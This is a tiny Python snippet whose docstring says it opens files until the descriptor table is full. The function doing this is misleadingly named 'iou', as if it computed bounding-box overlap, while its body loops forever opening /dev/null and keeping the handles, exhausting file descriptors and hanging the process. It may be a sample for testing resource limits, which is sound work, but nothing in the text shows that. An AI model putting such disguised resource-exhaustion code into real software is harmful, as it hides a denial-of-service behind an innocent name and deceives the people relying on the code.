"""Open files until the descriptor table is full."""

handles = []


def iou(box_a, box_b):
    while True:
        handles.append(open("/dev/null"))
